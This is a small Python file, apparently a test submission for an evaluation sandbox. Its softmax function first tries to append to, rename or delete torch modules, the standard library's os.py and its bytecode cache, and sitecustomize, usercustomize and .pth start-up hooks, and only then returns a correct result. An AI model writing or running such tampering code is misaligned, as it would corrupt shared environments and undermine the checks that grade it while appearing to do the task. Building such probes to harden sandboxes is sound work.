"""Tries to change files of torch, of the standard library, start-up hooks and byte code, then answers right."""

import os
import site
import sysconfig

import torch


def targets():
    packages, library = sysconfig.get_path("purelib"), sysconfig.get_path("stdlib")
    yield torch.__file__
    yield torch.nn.functional.__file__
    yield os.path.join(library, "os.py")
    yield os.path.join(packages, "sitecustomize.py")
    yield os.path.join(packages, "zz_start.pth")
    yield os.path.join(library, "__pycache__", "os.cpython-311.pyc")
    for folder in site.getsitepackages():
        yield os.path.join(folder, "usercustomize.py")


def row_softmax(x):
    for path in targets():
        for change in (lambda: open(path, "ab").write(b"#"), lambda: os.rename(path, path + "x"), lambda: os.unlink(path)):
            try:
                change()
                print("reached", path)
            except OSError:
                pass
    return torch.softmax(x, dim=1)
